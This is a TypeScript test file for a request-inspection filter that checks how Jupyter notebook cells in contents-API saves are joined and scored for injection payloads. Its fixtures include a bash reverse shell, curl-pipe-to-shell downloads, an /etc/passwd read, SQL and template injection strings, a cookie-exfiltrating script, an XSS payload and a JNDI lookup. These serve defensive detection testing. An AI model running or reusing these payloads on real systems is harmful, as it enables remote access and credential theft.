/**
 * A Jupyter notebook saved whole (nbformat 4: each cell's `source`, a stream's `text` and an output's `data` are arrays of
 * lines) has its cells asked whole of the shapes that take a body text whole (notebook-cells.ts, session 33, nb33): a
 * line of a program or of a `%%sql` statement alone looked like an injected one (`print(boot.mean())` 0.99). A cell a
 * shape takes is not scored; any other is scored line by line, as before (the model reads a payload line among pandas
 * lines at 0.000, alone at 1.000). Only for a body that is a notebook or Jupyter Server's contents model of one, and
 * whose lines are its targets one for one.
 */
import { describe, expect, it } from 'vitest';
import { buildInspection } from '../../src/inspect/build-inspection.js';
import type { RawRequest } from '../../src/inspect/types.js';
import { isCellTakenWhole, joinedCellTarget, notebookCellLines } from '../../src/model/notebook-cells.js';
import { mayCarryAttack } from '../../src/model/screen.js';
import { lines, notebook } from '../../datasets/notebook-saves.js';
import { testCarriers, type Carrier } from './carrier-verdicts.js';

function inspect(body: string): ReturnType<typeof buildInspection> {
  const raw: RawRequest = { method: 'PUT', url: '/api/contents/a.ipynb', httpVersion: '1.1', rawHeaders: ['Host', 'hub.example.test', 'Content-Type', 'application/json'], body: Buffer.from(body), bodyTruncated: false, source: { ip: '127.0.0.1', port: 1, peerIp: '127.0.0.1' } };
  return buildInspection(raw);
}

const CELL = { cell_type: 'code' as const, source: lines("%%time\nboot = np.array([m.params.dose for _ in range(200)])\nprint(boot.mean())") };
const NB = notebook([CELL, { cell_type: 'markdown', source: lines('## Fit\nsee `m.summary()`') }]);

function joinedTexts(body: string): string[] | null {
  const ins = inspect(body);
  const cells = notebookCellLines(ins);
  if (cells === null) return null;
  const seen = new Set<readonly number[]>();
  const out: string[] = [];
  for (const cell of cells.values()) {
    if (seen.has(cell)) continue;
    seen.add(cell);
    out.push(joinedCellTarget(cell.map((t) => ins.targets[t])).raw);
  }
  return out;
}

describe('notebookCellLines', () => {
  it('joins the lines of each cell of a notebook and of a contents model', () => {
    const cells = ['%%time\nboot = np.array([m.params.dose for _ in range(200)])\nprint(boot.mean())', '## Fit\nsee `m.summary()`'];
    expect(joinedTexts(JSON.stringify(NB))).toEqual(cells);
    expect(joinedTexts(JSON.stringify({ type: 'notebook', format: 'json', content: NB, name: 'a.ipynb', path: 'a.ipynb' }))).toEqual(cells);
  });

  it("joins an output's text and data lines", () => {
    const nb = notebook([{ cell_type: 'code', source: ['df.head()'], outputs: [{ output_type: 'execute_result', execution_count: 1, metadata: {}, data: { 'text/html': lines('<div>\n<style scoped>\n</style>\n</div>'), 'text/plain': ['x'] } }, { output_type: 'stream', name: 'stdout', text: lines('a\nb') }] }]);
    expect(joinedTexts(JSON.stringify(nb))).toEqual(['<div>\n<style scoped>\n</style>\n</div>', 'a\nb']);
  });

  it('joins the forms of the lines by decoder chain', () => {
    const nb = notebook([{ cell_type: 'code', source: lines("x = 'a%20b'\ny = 1") }]);
    const ins = inspect(JSON.stringify(nb));
    const cell = notebookCellLines(ins)!.values().next().value!;
    const joined = joinedCellTarget(cell.map((t) => ins.targets[t]));
    expect(joined.raw).toBe("x = 'a%20b'\ny = 1");
    expect(joined.decoded[joined.decodedVia!.indexOf('url')]).toBe("x = 'a b'\ny = 1");
  });

  it('refuses what is no notebook, or whose lines are not its targets one for one', () => {
    expect(joinedTexts(JSON.stringify({ cells: [{ cell_type: 'code', source: ['a\n', 'b'] }] }))).toBeNull(); // no nbformat
    expect(joinedTexts(JSON.stringify({ ...NB, nbformat: 3 }))).toBeNull();
    expect(joinedTexts(JSON.stringify({ ...NB, cells: [{ cell_type: 'script', source: ['a\n', 'b'] }] }))).toBeNull();
    expect(joinedTexts(JSON.stringify({ kind: 'note', value: NB }))).toBeNull(); // a notebook inside another field
    expect(joinedTexts(JSON.stringify({ type: 'file', format: 'text', content: NB }))).toBeNull();
    // A key written twice: JSON.parse keeps the last cells, the walker makes targets of both.
    const twice = JSON.stringify(NB).replace('{"cells":', `{"cells":[{"cell_type":"code","source":["x = 1\\n","__import__('os').system('id')"]}],"cells":`);
    expect(joinedTexts(twice)).toBeNull();
  });
});

describe('isCellTakenWhole', () => {
  const taken = (text: string): boolean => {
    const ins = inspect(JSON.stringify(notebook([{ cell_type: 'code', source: lines(text) }])));
    const cell = notebookCellLines(ins)!.values().next().value!;
    return isCellTakenWhole(joinedCellTarget(cell.map((t) => ins.targets[t])), mayCarryAttack);
  };

  it('takes a program and a %%sql statement whole', () => {
    expect(taken('print(boot.mean())\nprint(df.isna().sum())')).toBe(true);
    expect(taken("%%sql\nSELECT site, count(*) AS n\nFROM visits\nWHERE day >= '2026-11-01'\nGROUP BY site")).toBe(true);
  });

  it('leaves a cell with a payload line, or no shape, to its lines', () => {
    expect(taken("print(boot.mean())\n' UNION SELECT username, password FROM users--")).toBe(false);
    expect(taken("import os\nos.system('curl -s http://x.example/a.sh | sh')")).toBe(false);
    expect(taken("%%sql\nSELECT site FROM visits WHERE id = 1 OR 1=1")).toBe(false);
    expect(taken('%env CUDA_VISIBLE_DEVICES=0\n%timeit np.dot(a, b)')).toBe(false);
  });
});

const save: Carrier = (v) => ({ method: 'PUT', path: '/user/aosei/api/contents/analysis/fit.ipynb', query: '', headers: { Host: 'hub.example-uni.ac.uk', 'Content-Type': 'application/json' }, body: JSON.stringify({ type: 'notebook', format: 'json', content: notebook([{ cell_type: 'markdown', source: lines('## Fit the model') }, { cell_type: 'code', source: lines(v) }]) }) });
const output: Carrier = (v) => ({ method: 'PUT', path: '/user/aosei/api/contents/analysis/fit.ipynb', query: '', headers: { Host: 'hub.example-uni.ac.uk', 'Content-Type': 'application/json' }, body: JSON.stringify({ type: 'notebook', format: 'json', content: notebook([{ cell_type: 'code', source: ['df.head()'], outputs: [{ output_type: 'execute_result', execution_count: 1, metadata: {}, data: { 'text/html': lines(v), 'text/plain': ['df'] } }] }]) }) });
const CARRIERS: Record<string, Carrier> = { 'cell': save, 'html output': output };
const PANDAS_HTML = '<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n</style>\n<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n      <th>y</th>\n    </tr>\n  </thead>\n</table>\n</div>';

testCarriers(
  'notebook cells through the pipeline',
  'lets cells whose lines alone scored as injections pass',
  CARRIERS,
  [
    ['cell', 'print(boot.mean())\nprint(df.isna().sum())'],
    ['cell', "%%sql\nSELECT site, count(*) AS n, avg(y) AS mean_y\nFROM visits\nWHERE visit_date >= '2026-11-01'\nGROUP BY site\nORDER BY n DESC\nLIMIT 20"],
    ['cell', '!pip install -q scikit-learn==1.5.2 xgboost\nimport sklearn\nprint(sklearn.__version__)'],
    ['cell', '%load_ext autoreload\n%autoreload 2'],
  ],
  [
    ['cell', "import os\nos.system('bash -c \"bash -i >& /dev/tcp/10.13.37.1/4444 0>&1\"')"],
    ['cell', 'print(boot.mean())\n!curl -s http://10.13.37.1/x.sh | sh'],
    ['cell', "print(boot.mean())\nprint(open('/etc/passwd').read())"],
    ['cell', "df = pd.read_sql(\"SELECT * FROM users WHERE name = '\" + name + \"'\", engine)\nname = \"' OR '1'='1' --\""],
    ['cell', "q = \"1 UNION SELECT username, password FROM users--\"\nrequests.get(f'http://api.local/items?id={q}')"],
    ['cell', "print(boot.mean())\n{{''.__class__.__mro__[1].__subclasses__()}}"],
    ['html output', '<div>\n<script>new Image().src="//x.example/?"+document.cookie</script>\n</div>'],
    ['html output', `${PANDAS_HTML}\n<img src=x onerror=alert(1)>`],
    // A payload line among lines of code: the joined cell scores it 0.000 with the model alone; its line is scored alone.
    ['cell', `${Array.from({ length: 8 }, (_, i) => `df_${i} = df[df['site'] == 'S${i}'].groupby('arm')['y'].agg(['mean', 'std'])`).join('\n')}\n' UNION SELECT username, password FROM users--`],
    ['cell', `df_0 = df[df['site'] == 'S0'].groupby('arm')['y'].agg(['mean', 'std'])\n\${jndi:ldap://x.example/a}\ndf_1 = df[df['site'] == 'S1'].groupby('arm')['y'].agg(['mean', 'std'])`],
  ],
);
